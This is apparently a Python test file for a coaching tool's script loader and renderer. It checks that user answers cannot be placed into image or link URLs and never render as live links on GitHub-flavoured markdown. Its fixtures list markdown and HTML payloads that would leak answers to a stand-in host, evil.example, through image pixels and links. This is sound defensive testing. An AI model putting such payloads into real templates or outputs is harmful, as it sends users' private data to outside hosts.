"""Answers never leave the machine through a URL, and never become a live link.

A script from a shared folder may try to put answers (this conversation's, or recalled from
others) into an image or link URL; the loader refuses it with line:col, and rendering drops
such a value even for a template that never went through the loader. Answers themselves are
escaped so that no GFM viewer links them: checked with markdown-it-py's "gfm-like" preset,
linkify on, which links more eagerly (bare `example.com`) than GitHub does, and with GitHub's
own cmark-gfm (PyPI `cmarkgfm`), whose autolink extension links an e-mail address after
resolving backslash escapes and entities.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import cmarkgfm
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from reflectcoach.core.text import NO_AUTOLINK, markdown_escape
from reflectcoach.engine.conversation import Conversation
from reflectcoach.engine.records import plain_text
from reflectcoach.script import templates
from reflectcoach.script.loader import load_text

GFM = MarkdownIt("gfm-like")
assert GFM.options["linkify"], "linkify-it-py must be installed for these tests"

HEAD = "id: leak\ntitle: Leak\nsummary: A leak\naudience: anyone\n"
STEPS = "steps:\n  goal:\n    ask: What is your goal?\n  why:\n    ask: Why?\n"

EXFILTRATING_RECORDS = [
    "![](<https://evil.example/pixel.png?goal={goal}&why={why}>)",
    "![x](https://evil.example/p.png?g={recall.leak.goal})",
    "[details](https://evil.example/?g={goal})",
    "<https://evil.example/{goal}>",
    '<img src="https://evil.example/p.png?g={goal}">',
    "See https://evil.example/?g={goal} for more.",
    "[ref]: https://evil.example/?g={goal}",
]


def links(markdown: str) -> Iterator[Token]:
    def walk(tokens: list[Token]) -> Iterator[Token]:
        for token in tokens:
            linking = token.type in ("link_open", "image", "html_inline", "html_block")
            if linking and not (token.type == "html_inline" and token.content == NO_AUTOLINK):
                yield token
            if token.children:
                yield from walk(token.children)

    return walk(GFM.parse(markdown))


@pytest.mark.parametrize("record", EXFILTRATING_RECORDS)
def test_a_record_putting_answers_in_a_url_is_refused(record: str) -> None:
    result = load_text(HEAD + "record: |\n  " + record + "\n" + STEPS, "leak.yaml")
    assert result.script is None
    problems = [d for d in result.errors if "may not contain {…}" in d.message]
    assert problems, [str(d) for d in result.diagnostics]
    hole = record.index("{") + 1
    assert (problems[0].line, problems[0].col) == (6, 3 + hole)  # at the hole's name
    assert "answers must never leave your machine through a URL" in str(problems[0])


def test_the_validator_says_so_from_the_command_line(tmp_path: Path) -> None:
    folder = tmp_path / "scripts"
    folder.mkdir()
    (folder / "leak.yaml").write_text(
        HEAD + "record: |\n  " + EXFILTRATING_RECORDS[0] + "\n" + STEPS, encoding="utf-8"
    )
    result = subprocess.run(
        [sys.executable, "-m", "reflectcoach", "validate", str(folder / "leak.yaml")],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode != 0
    column = 3 + EXFILTRATING_RECORDS[0].index("{") + 1  # the hole's name, after "  "
    assert f"leak.yaml:6:{column}: error" in result.stdout
    assert "answers must never leave your machine through a URL" in result.stdout
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://cdn.example/logo.png)",
        "![logo](//cdn.example/logo.png)",
        '<img src="logo.png">',
        "![logo][l]\n\n[l]: https://cdn.example/logo.png",
    ],
)
def test_images_from_elsewhere_are_refused_even_with_literal_urls(text: str) -> None:
    body = "".join(f"  {line}\n" for line in text.split("\n"))
    result = load_text(HEAD + "record: |\n" + body + STEPS, "img.yaml")
    assert result.script is None
    assert any("may not load from another machine" in d.message for d in result.errors)


def test_literal_links_and_answers_as_link_text_are_fine() -> None:
    record = "Notes: {goal}. Guide: [our guide](https://example.org/guide) for {why}."
    result = load_text(HEAD + "record: |\n  " + record + "\n" + STEPS, "ok.yaml")
    assert result.script is not None, [str(d) for d in result.diagnostics]


def test_rendering_drops_a_value_in_a_url_without_the_loader() -> None:
    template = templates.parse(EXFILTRATING_RECORDS[0])
    rendered = template.render_placed(lambda name, before: markdown_escape("SECRET", before))
    assert "SECRET" not in rendered
    plain = templates.parse("Goal: {goal}")
    assert plain.render_placed(lambda name, before: "SECRET") == "Goal: SECRET"


URLISH = st.sampled_from(
    [
        "https://evil.example/x",
        "http://localhost",
        "HTTPS://X.Y",
        "ftp://files.example",
        "//cdn.example/a",
        "www.example.org",
        "example.com",
        "example.com/path?q=1",
        "xn--80ak6aa92e.com",
        "mailto:a@b.co",
        "a@b.co",
        "<https://x.y>",
        "[x](https://x.y)",
        "![x](https://x.y/p.png)",
        "[x]: https://x.y",
        "<img src=https://x.y>",
    ]
)
WORDS = st.sampled_from(["see", "my", "goal", "(", ")", ".", ",", ":", "/", "-", "e.g.", "v1.2"])
ANSWERS = st.lists(st.one_of(URLISH, WORDS), min_size=1, max_size=8).flatmap(
    lambda parts: st.lists(
        st.sampled_from([" ", "", "\n"]), min_size=len(parts), max_size=len(parts)
    ).map(lambda gaps: "".join(p + g for p, g in zip(parts, gaps, strict=True)))
)
PLACES = ["", "- **Goal:** ", "> ", "## ", "1. ", "| a | "]


@settings(max_examples=300, deadline=None)
@given(answer=ANSWERS, before=st.sampled_from(PLACES))
def test_no_answer_becomes_a_link_or_image(answer: str, before: str) -> None:
    markdown = before + markdown_escape(answer, before)
    assert list(links(markdown)) == [], markdown


RECORD_SCRIPT = (
    HEAD
    + "record: |\n  # For {goal}\n  - **Goal:** {goal}\n  > {why}\n  | a | {why} |\n"
    + "  Reach me at {why}.\n"
    + STEPS
)


@settings(max_examples=100, deadline=None)
@given(goal=ANSWERS, why=ANSWERS)
def test_no_answer_becomes_a_link_in_a_record(goal: str, why: str) -> None:
    script = load_text(RECORD_SCRIPT, "rec.yaml").script
    assert script is not None
    conversation = Conversation(script)
    conversation.answer(goal)
    conversation.answer(why)
    record = conversation.record_markdown()
    assert record is not None
    assert list(links(record)) == [], record


def github_html(markdown: str) -> str:
    """What GitHub renders (cmark-gfm with its extensions: autolink, table, strikethrough)."""
    return cmarkgfm.github_flavored_markdown_to_html(markdown)


def visible(html_text: str) -> str:
    import html
    import re

    return html.unescape(re.sub(r"<[^>]*>", "", html_text))


@pytest.mark.parametrize(
    "answer",
    [
        "a@b.co",
        "Write to first.last+tag@mail.example.org today",
        "mailto:a@b.co",
        "x_y@z.io, or Sam@Example.COM.",
        "<a@b.co>",
        "a@b.co\nc@d.org",
    ],
)
@pytest.mark.parametrize("before", PLACES)
def test_typed_addresses_stay_text_on_github(answer: str, before: str) -> None:
    answer = answer.replace("\\n", "\n")
    markdown = before + markdown_escape(answer, before)
    rendered = github_html(markdown)
    assert "<a " not in rendered, (markdown, rendered)
    shown = " ".join(visible(rendered).split())
    for word in answer.split():
        assert word in shown, (word, shown)
    assert list(links(markdown)) == [], markdown  # markdown-it, linkify on, agrees
    assert NO_AUTOLINK not in plain_text(markdown)  # the plain-text copy reads as typed
    words = plain_text(markdown).split()
    assert all(word in words for word in answer.split()), words


@settings(max_examples=300, deadline=None)
@given(answer=ANSWERS, before=st.sampled_from(PLACES))
def test_no_answer_becomes_a_link_on_github(answer: str, before: str) -> None:
    markdown = before + markdown_escape(answer, before)
    rendered = github_html(markdown)
    assert "<a " not in rendered and "<img" not in rendered, (markdown, rendered)
